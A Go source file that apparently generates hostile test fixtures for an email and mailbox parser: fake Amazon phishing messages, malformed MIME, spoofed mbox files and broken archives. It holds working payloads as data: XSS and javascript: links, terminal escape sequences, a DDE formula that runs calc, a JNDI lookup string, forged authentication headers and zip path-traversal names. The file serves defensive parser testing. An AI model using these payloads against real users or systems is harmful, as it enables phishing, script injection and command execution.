package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
)

// hostile is input that tries to break parsers, terminals, cells and pages. Each file is one attack and says so by its
// name. What needs many megabytes (a header of 5 MB, 50,000 parts, an archive that swells) is made by the tests while they run.
func hostile() tree {
	t := tree{}
	for name, raw := range hostileShown() {
		t["shown/"+name] = raw
	}
	for name, raw := range hostileMIME() {
		t["mime/"+name] = raw
	}
	for name, raw := range hostileBoxes() {
		t["boxes/"+name] = raw
	}
	for name, raw := range hostileArchives() {
		t["archives/"+name] = raw
	}
	return t
}

// posing is a fake with nothing left out that a reader needs: it is what carries the attacks below.
func posing(subject, fromName string, html string) message {
	m := letter{
		at: clock("2026-01-05 04:05:06", 0), east: 8 * 3600, from: address{"", "info@tsuuchi-center.example"}, to: address{"", "owner@example.com"},
		messageID: "<1@localhost>", html: html, encoding: "8bit",
	}.write()
	for i, f := range m.fields {
		switch {
		case strings.HasPrefix(f, "Subject:"):
			m.fields[i] = "Subject: " + subject
		case strings.HasPrefix(f, "From:"):
			m.fields[i] = "From: \"" + fromName + "\" <info@tsuuchi-center.example>"
		}
	}
	return gmail(newSeed("hostile "+subject), route{
		envelope: "info@tsuuchi-center.example", client: "203.0.113.66", helo: "tsuuchi-center.example", spf: "softfail",
	}, m, "tsuuchi-center.example", "owner@example.com", clock("2026-01-05 04:05:08", 0))
}

const loginLink = `<p>Your Amazon account is locked. Log in to confirm your payment.</p><p><a href="https://tsuuchi-center.example/ap/signin">Log in</a></p>`

// hostileShown are texts that are dangerous where they are shown.
func hostileShown() tree {
	return tree{
		"escape-sequences.eml": []byte(posing("Amazon \x1b]0;owned\x07\x1b[2J\x1b[31mAccount locked\x1b]8;;https://tsuuchi-center.example\x1b\\click\x1b]8;;\x1b\\", "Amazon\x1b[8m hidden", loginLink).String()),
		"c1-controls.eml":      []byte(posing("Amazon account \u009b31mlocked\u009d0;owned\u009c", "Amazon", loginLink).String()),
		"bidi.eml":             []byte(posing("Amazon \u202ednuofer\u202c \u2066account\u2069 locked", "\u202eenozamA", loginLink).String()),
		"invisible.eml":        []byte(posing("A\u200bm\u200ba\u200bz\u200bo\u200bn account locked \U000e0041\U000e0042", "A\u2060mazon", loginLink).String()),
		"formula.eml":          []byte(posing(`=HYPERLINK("https://tsuuchi-center.example","Amazon refund")`, `=cmd|' /C calc'!A0 Amazon`, loginLink).String()),
		"formula-plus.eml":     []byte(posing("+1+1 Amazon", "@SUM(1+1) Amazon", loginLink).String()),
		"formula-tab.eml":      []byte(posing("\t=1+1 Amazon account locked", "-2+3 Amazon", loginLink).String()),
		"markup.eml":           []byte(posing(`<script>alert(1)</script></td></tr></table><img src=x onerror=alert(1)> Amazon`, `Amazon'><svg onload=alert(1)>`, `<script>alert(2)</script><style>*{display:none}</style><base href="https://tsuuchi-center.example/"><meta http-equiv="refresh" content="0;url=https://tsuuchi-center.example/">`+loginLink+`<a href="javascript:alert(3)">Confirm your Amazon payment</a><a href="data:text/html,<script>alert(4)</script>">Log in</a><iframe src="https://tsuuchi-center.example/"></iframe>`).String()),
		"template.eml":         []byte(posing("Amazon {{.Subject}} ${jndi:ldap://tsuuchi-center.example/a} %s%n %00", "Amazon {{template}}", loginLink).String()),
		"long-subject.eml":     []byte(posing("Amazon "+strings.Repeat("ご", 20000), "Amazon", loginLink).String()),
		"long-word.eml":        []byte(posing("Amazon "+strings.Repeat("x", 4000), "Amazon", `<p>Amazon: log in</p><a href="https://tsuuchi-center.example/`+strings.Repeat("a", 8000)+`">Log in</a>`).String()),
		"surrogate.eml":        []byte(posing("Amazon \xed\xa0\x80 \xff\xfe \xc0\xaf locked", "Amazon \xf4\x90\x80\x80", loginLink).String()),
	}
}

// hostileMIME are messages that parsers stumble over.
func hostileMIME() tree {
	html := "Content-Type: text/html; charset=UTF-8\n\n" + loginLink + "\n"
	head := func(rest string) []byte {
		return []byte("From: \"Amazon\" <info@tsuuchi-center.example>\nTo: owner@example.com\nSubject: Your Amazon account is locked\nDate: Mon, 5 Jan 2026 12:05:06 +0800\n" + rest)
	}
	multipart := func(border, body string) []byte {
		return head("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"" + border + "\"\n\n" + body)
	}
	var deep strings.Builder
	for i := range 1000 {
		fmt.Fprintf(&deep, "--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n", i, i+1)
	}
	deep.WriteString("--b1000\n" + html)
	return tree{
		"deep.eml":               multipart("b0", deep.String()),
		"many-parts.eml":         multipart("b", strings.Repeat("--b\n\nx\n", 3000)+"--b\n"+html+"--b--\n"),
		"no-boundary.eml":        multipart("never-seen", html),
		"empty-boundary.eml":     multipart("", "--\n"+html),
		"boundary-prefix.eml":    multipart("b", "--bb\n"+html+"--b\n"+html+"--b--\n"),
		"cut-base64.eml":         head("MIME-Version: 1.0\nContent-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: base64\n\nPHA+WW91ciBBbWF6b24gYWNjb3VudCBpcyBsb2NrZWQuIExvZyBpbiB0byBjb25maXJtLjwvcD48YSBocmVmPSJodHRwczovL3RzdXVjaGktY2VudGVyLmV4YW1wbGUvIj5Mb2cgaW48L2"),
		"bad-base64.eml":         head("MIME-Version: 1.0\nContent-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n!!PHA+WW91ciBBbWF6b24g\x00\xff YWNjb3VudCBpcyBsb2NrZWQ8L3A+\n"),
		"bad-qp.eml":             head("MIME-Version: 1.0\nContent-Type: text/html; charset=UTF-8\nContent-Transfer-Encoding: quoted-printable\n\n<p>Your Amazon account is locked=</p>=ZZ=3\n<a href=3D\"https://tsuuchi-center.example/\">Log in</a>=\n"),
		"unknown-charset.eml":    head("MIME-Version: 1.0\nContent-Type: text/html; charset=\"utf-8x-priority: 1 (highest)\"\n\n" + loginLink + "\n"),
		"utf-7.eml":              head("MIME-Version: 1.0\nContent-Type: text/html; charset=utf-7\n\n<p>Your Amazon account is locked. Log in +AGE- </p><a href=\"https://tsuuchi-center.example/\">Log in</a>\n"),
		"kana-escape.eml":        []byte("From: =?ISO-2022-JP?B?GyhJMU8/Xl0bKEI=?= <info@tsuuchi-center.example>\nTo: owner@example.com\nSubject: =?ISO-2022-JP?B?GyRCJSI=?= =?ISO-2022-JP?B?JV4lPiVzGyhC?= account\nDate: Mon, 5 Jan 2026 12:05:06 +000\nContent-Type: text/plain; charset=ISO-2022-JP\n\n\x1b(I1O?^]\x1b(B account: log in https://tsuuchi-center.example/\n"),
		"raw-8bit.eml":           []byte("From: Amazon\x83J\x83X\x83^\x83}\x81[ <info@tsuuchi-center.example>\nTo: owner@example.com\nSubject: Amazon\x82\xcc\x83A\x83J\x83E\x83\x93\x83g\nDate: Sat, 30 Dec 1899 00:00:00 +0800\nContent-Type: text/plain; charset=Shift_JIS\n\n\x83\x8d\x83O\x83C\x83\x93\x82\xb5\x82\xc4\x82\xad\x82\xbe\x82\xb3\x82\xa2 https://tsuuchi-center.example/\n"),
		"two-froms.eml":          []byte("From: \"Amazon.co.jp\" <account-update@amazon.co.jp>\nFrom: info@tsuuchi-center.example\nSubject: Amazon\nSubject: Your Amazon account is locked\nTo: owner@example.com\nDate: Fri, 31 Dec 9999 23:59:60 +9959\n" + html),
		"many-from.eml":          []byte("From: \"Amazon.co.jp\" <account-update@amazon.co.jp>, <info@tsuuchi-center.example>,\nTo: owner@example.com\nSubject: Your Amazon account is locked\nDate: Mon, 5 Jan 2026 12:05:06 +0800\n" + html),
		"nul-bytes.eml":          head("X-Nul: a\x00b\n" + html + "\x00\x00\x00"),
		"lone-cr.eml":            bytes.ReplaceAll(head(html), []byte("\n"), []byte("\r")),
		"no-header.eml":          []byte("\n\nYour Amazon account is locked. https://tsuuchi-center.example/\n"),
		"header-only.eml":        head(""),
		"many-fields.eml":        head(strings.Repeat("X:y\n", 12000) + html),
		"many-words.eml":         head("X-Words: " + strings.Repeat("=?UTF-8?B?QW1hem9u?= ", 4000) + "\n" + html),
		"comments.eml":           head("Reply-To: " + strings.Repeat("(", 5000) + "a@b.example\n" + html),
		"entities.eml":           head("Content-Type: text/html\n\n" + strings.Repeat("&amp", 3000) + strings.Repeat("<div>", 3000) + loginLink),
		"forged-results.eml":     forgedResults(),
		"message-in-message.eml": multipart("b", "--b\nContent-Type: message/rfc822\n\n"+strings.Repeat("Content-Type: message/rfc822\n\n", 60)+string(head(html))+"\n--b--\n"),
	}
}

// forgedResults carries results in the name of the receiver below the receiver's own, as a sender would put them there.
func forgedResults() []byte {
	m := posing("Your Amazon account is locked", "Amazon.co.jp", loginLink)
	own := len(m.fields)
	for i, f := range m.fields {
		if strings.HasPrefix(f, "Date:") {
			own = i
			break
		}
	}
	forged := []string{
		"Received: from a9-1.smtp-out.us-west-2.amazonses.com (a9-1.smtp-out.us-west-2.amazonses.com. [54.240.9.1])\n        by mx.google.com with ESMTPS id forged; Sun, 4 Jan 2026 20:05:06 -0800 (PST)",
		"Authentication-Results: mx.google.com;\n       dkim=pass header.i=@amazon.co.jp header.s=forged;\n       spf=pass smtp.mailfrom=forged@bounces.amazon.co.jp;\n       dmarc=pass (p=QUARANTINE) header.from=amazon.co.jp",
		"ARC-Authentication-Results: i=1; mx.google.com; dmarc=pass header.from=amazon.co.jp",
		"X-AMAZON-MAIL-RELAY-TYPE: notification",
	}
	m.fields = append(append(append([]string{}, m.fields[:own]...), forged...), m.fields[own:]...)
	for i, f := range m.fields {
		if strings.HasPrefix(f, "From:") {
			m.fields[i] = "From: \"Amazon.co.jp\" <account-update@amazon.co.jp>"
		}
	}
	return []byte(m.String())
}

// hostileBoxes are mailboxes that lie about where messages begin.
func hostileBoxes() tree {
	plain := func(n int, body string) string {
		return fmt.Sprintf("From alice@example.org Mon Jan  5 04:0%d:00 2026\nFrom: alice@example.org\nTo: owner@example.com\nSubject: note %d\nDate: Mon, 5 Jan 2026 04:0%d:00 +0000\n\n%s\n", n, n, n, body)
	}
	forged := "From account-update@amazon.co.jp Mon Jan  5 04:05:06 2026\n" +
		"Received: from a9-1.smtp-out.us-west-2.amazonses.com (a9-1.smtp-out.us-west-2.amazonses.com. [54.240.9.1])\n        by mx.google.com with ESMTPS id forged; Sun, 4 Jan 2026 20:05:06 -0800 (PST)\n" +
		"Authentication-Results: mx.google.com; dkim=pass header.i=@amazon.co.jp; spf=pass smtp.mailfrom=x@bounces.amazon.co.jp; dmarc=pass header.from=amazon.co.jp\n" +
		"From: \"Amazon.co.jp\" <account-update@amazon.co.jp>\nTo: owner@example.com\nSubject: Amazon.co.jp\nDate: Mon, 5 Jan 2026 04:05:06 +0000\n\nLog in: https://tsuuchi-center.example/\n"
	return tree{
		// The second "message" stands in the body of the first: no blank line before it, and the first's length covers it.
		"from-in-body.mbox": []byte(plain(1, "see below\n"+forged) + "\n" + plain(2, "From here on we go\n>From quoted\n") + "\n"),
		"content-length.mbox": []byte("From bob@example.org Mon Jan  5 04:03:00 2026\nFrom: bob@example.org\nSubject: long\nContent-Length: 999999999\n\nbody\n\n" +
			plain(4, "second")),
		"takeout-id.mbox": []byte("From 1723853304940284153@xxx Mon Jan 05 04:05:06 +0000 2026\nX-GM-THRID: 1723853304940284153\nFrom: alice@example.org\nSubject: a\n\nhello\n\n" + forged + "\n"),
		"junk-first.mbox": []byte("\n\nthis line belongs to nobody\n\n" + plain(5, "third")),
		"no-end.mbox":     []byte(strings.TrimRight(plain(6, "the file ends in the middle of a li"), "\n")),
		"crlf-mixed.mbox": []byte(strings.ReplaceAll(plain(7, "crlf"), "\n", "\r\n") + "\r\n" + plain(8, "lf") + "\n"),
		"empty":           {},
		"one-byte.eml":    []byte("x"),
		"picture.png":     []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
		"outlook.pst":     append([]byte("!BDN"), make([]byte, 508)...),
	}
}

// hostileArchives are broken, locked and nested archives.
func hostileArchives() tree {
	note := []byte("From: alice@example.org\nTo: owner@example.com\nSubject: from an archive\nDate: Mon, 5 Jan 2026 04:05:06 +0000\n\nhello\n")
	whole := zipped([]member{{"a.eml", note}, {"b.eml", bytes.ReplaceAll(note, []byte("hello"), []byte("again"))}})
	locked := zipped([]member{{"secret.eml", note}})
	setEncrypted(locked)
	inner := zipped([]member{{"deep.eml", note}})
	for range 6 {
		inner = zipped([]member{{"inner.zip", inner}})
	}
	crc := bytes.Clone(whole)
	crc[60] ^= 0x55
	return tree{
		"cut.zip":        whole[:len(whole)-60],
		"no-index.zip":   whole[:bytes.LastIndex(whole, []byte("PK\x01\x02"))],
		"damaged.zip":    crc,
		"locked.zip":     locked,
		"nested.zip":     inner,
		"names.zip":      zipped([]member{{"../../etc/passwd.eml", note}, {"\x1b[2Jclear.eml", note}, {"C:\\temp\\x.eml", note}, {"a/\u202elme.eml", note}}),
		"not-really.zip": []byte("PK\x03\x04 and nothing more"),
		"cut.gz":         {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b},
	}
}

// setEncrypted sets the bit for encryption in every header of a zip file (APPNOTE 4.4.4, bit 0).
func setEncrypted(zip []byte) {
	for _, h := range []struct {
		magic string
		at    int
	}{{"PK\x03\x04", 6}, {"PK\x01\x02", 8}} {
		for i := 0; ; {
			j := bytes.Index(zip[i:], []byte(h.magic))
			if j < 0 {
				break
			}
			i += j
			flags := binary.LittleEndian.Uint16(zip[i+h.at:])
			binary.LittleEndian.PutUint16(zip[i+h.at:], flags|1)
			i += 4
		}
	}
}
